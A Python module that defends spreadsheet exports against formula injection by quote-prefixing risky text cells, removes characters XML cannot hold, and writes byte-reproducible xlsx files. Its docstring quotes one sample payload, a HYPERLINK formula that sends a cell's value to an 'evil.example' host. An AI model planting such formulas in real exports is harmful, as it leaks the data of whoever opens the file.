"""Spreadsheet safety and reproducibility: formula-injection neutralisation, text Excel can
store exactly, and xlsx files whose bytes depend on their content only.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and tab or carriage return can hide such a start), so an exported error message like
``=HYPERLINK("http://evil.example/?"&A1)`` would run when someone opens the export. Following
OWASP's CSV-injection guidance, csv and xlsx exports prefix such text cells with a single
quote ``'``, which spreadsheets show instead of evaluating. Only string columns change:
numbers (``-2``) stay numbers. ``neutralize_formulas=False`` turns this off per export; the
text is then written verbatim (xlsx still stores it as text, never as a formula).

Line ends are kept: openpyxl writes through lxml, which stores a carriage return as the
character reference ``&#13;``, and an XML parser gives a reference back as CR (a literal CR
would be read as LF). Without lxml (``OPENPYXL_LXML=False``) openpyxl writes CR literally,
so line ends are then written as LF, which is what any reader would get anyway.

Column functions work on whole Arrow columns (pyarrow.compute), never row by row. openpyxl
is imported only when a workbook is written: importing this module stays cheap.
"""

from __future__ import annotations

import os
import shutil
import tempfile
import zipfile
from datetime import datetime
from typing import TYPE_CHECKING

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from export_assets.lib.exports.codecs import WriteStream, zip_entry
from export_assets.lib.source.arrays import text_offsets

if TYPE_CHECKING:
    from openpyxl import Workbook

FORMULA_START = r"^[=+\-@\t\r]"
"""A text cell starting like this is a formula (or hides one) to a spreadsheet program."""

FORMULA_ESCAPE = "'"

# openpyxl's ILLEGAL_CHARACTERS_RE (C0 controls other than tab, LF and CR, which XML 1.0
# cannot hold), plus U+FFFE and U+FFFF, which XML 1.0 cannot hold either. RE2 syntax.
EXCEL_ILLEGAL_CHARACTERS = r"[\x{00}-\x{08}\x{0B}\x{0C}\x{0E}-\x{1F}\x{FFFE}\x{FFFF}]"


def is_text(type_: pa.DataType) -> bool:
    """Whether a column of this type holds text (the only columns this module changes)."""
    return bool(pa.types.is_string(type_) or pa.types.is_large_string(type_))


def neutralize_formulas(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """Prefix ``'`` to every text value that starts with = + - @ tab or carriage return."""
    if not _may_start_a_formula(column):
        return column
    formula = pc.match_substring_regex(column, FORMULA_START)
    if not pc.any(formula).as_py():
        return column
    # Arrow scalars, not Python text: a Python value here makes pyarrow import pandas.
    escaped = pc.binary_join_element_wise(
        _text(FORMULA_ESCAPE, column.type), column, _text("", column.type)
    )
    return pc.if_else(formula, escaped, column)


def _text(value: str, kind: pa.DataType) -> pa.Scalar:
    from export_assets.lib.exports.formats import text_scalar  # formats imports this module

    return text_scalar(value, kind)


_FORMULA_FIRST_BYTES = np.frombuffer(b"=+-@\t\r", dtype=np.uint8)


def _may_start_a_formula(column: pa.Array | pa.ChunkedArray) -> bool:
    """False when no value's first byte starts a formula: read from the array's buffers,
    about fifty times cheaper than the regex on a plain column (True: check with it)."""
    if not isinstance(column, pa.Array) or column.type != pa.string() or len(column) == 0:
        return True
    data_buffer = column.buffers()[2]
    if data_buffer is None:
        return False  # every value is empty or null
    offsets = text_offsets(column)
    starts = offsets[:-1][offsets[1:] > offsets[:-1]]  # of the non-empty values (and nulls)
    first = np.frombuffer(data_buffer, dtype=np.uint8)[starts]
    return bool(np.isin(first, _FORMULA_FIRST_BYTES).any())


def without_excel_illegal_characters(
    column: pa.Array | pa.ChunkedArray,
) -> pa.Array | pa.ChunkedArray:
    """Remove the control characters an xlsx file cannot hold (they have no cell form)."""
    illegal = pc.match_substring_regex(column, EXCEL_ILLEGAL_CHARACTERS)
    if not pc.any(illegal).as_py():
        return column
    return pc.replace_substring_regex(column, EXCEL_ILLEGAL_CHARACTERS, "")


def xlsx_keeps_carriage_returns() -> bool:
    """Whether openpyxl writes through lxml, which escapes CR as ``&#13;`` so that it reads
    back as CR (its fallback writer leaves CR literal, which XML parsers read as LF)."""
    import openpyxl.xml  # only once a workbook is written

    return bool(openpyxl.xml.LXML)


def excel_line_breaks(column: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """CR LF and lone CR as LF: what XML parsers read back from a literal CR, said up front
    (used only when openpyxl writes without lxml)."""
    if not pc.any(pc.match_substring(column, "\r")).as_py():
        return column
    return pc.replace_substring(pc.replace_substring(column, "\r\n", "\n"), "\r", "\n")


def neutralize_batch(batch: pa.RecordBatch) -> pa.RecordBatch:
    """``batch`` with :func:`neutralize_formulas` applied to each text column."""
    columns = [
        neutralize_formulas(column) if is_text(column.type) else column for column in batch.columns
    ]
    return pa.RecordBatch.from_arrays(columns, schema=batch.schema)


def excel_text(column: pa.Array, *, neutralize: bool) -> pa.Array:
    """A text column as an xlsx cell holds it: illegal characters removed, then formulas
    neutralised (so removing a leading control character cannot expose a formula); line
    ends kept (as LF only when openpyxl cannot write CR, see the module's docstring)."""
    column = without_excel_illegal_characters(column)
    if neutralize:
        column = neutralize_formulas(column)
    return column if xlsx_keeps_carriage_returns() else excel_line_breaks(column)


# --- reproducible xlsx files -----------------------------------------------------------

XLSX_FIXED_TIME = datetime(1980, 1, 1)
"""The created/modified date of an xlsx export (the earliest a zip entry can hold)."""

_COPY_CHUNK = 1024 * 1024


class _ReproducibleZipFile(zipfile.ZipFile):
    """A ZipFile whose entries all carry a fixed date, not the time of writing.

    openpyxl adds parts by name (``writestr``) and worksheets from its temporary files
    (``write``); both would otherwise stamp the current local time into the archive.
    """

    def writestr(  # type: ignore[override]
        self,
        zinfo_or_arcname: str | zipfile.ZipInfo,
        data: bytes | str,
        compress_type: int | None = None,
        compresslevel: int | None = None,
    ) -> None:
        if not isinstance(zinfo_or_arcname, zipfile.ZipInfo):
            zinfo_or_arcname = zip_entry(zinfo_or_arcname, self.compression)
        super().writestr(zinfo_or_arcname, data, compress_type, compresslevel)

    def write(  # type: ignore[override]
        self,
        filename: str,
        arcname: str | None = None,
        compress_type: int | None = None,
        compresslevel: int | None = None,
    ) -> None:
        entry = zip_entry(arcname or filename, self.compression)
        entry.file_size = os.path.getsize(filename)  # lets zipfile choose zip64 as write() does
        with open(filename, "rb") as source, self.open(entry, "w") as target:
            shutil.copyfileobj(source, target, _COPY_CHUNK)


def save_reproducible_xlsx(
    workbook: Workbook, sink: WriteStream, moment: datetime = XLSX_FIXED_TIME
) -> None:
    """Save ``workbook`` into ``sink``, its bytes a function of its content and ``moment``.

    ``Workbook.save`` would date ``docProps/core.xml`` (created, modified) and every zip
    entry with the time of the run: here the properties carry ``moment`` and the entries
    the zip epoch. The archive goes to a local temporary file first: on a file that can
    seek, zip puts each part's sizes in its header (no data descriptors), the layout Excel
    itself writes; then it is copied into ``sink``.
    """
    from openpyxl.writer.excel import ExcelWriter  # only once a workbook is written

    workbook.properties.created = moment
    workbook.properties.modified = moment
    with tempfile.TemporaryFile(prefix="export-xlsx-") as spool:
        archive = _ReproducibleZipFile(spool, "w", zipfile.ZIP_DEFLATED, allowZip64=True)
        ExcelWriter(workbook, archive).save()  # closes the archive
        spool.seek(0)
        shutil.copyfileobj(spool, sink, _COPY_CHUNK)
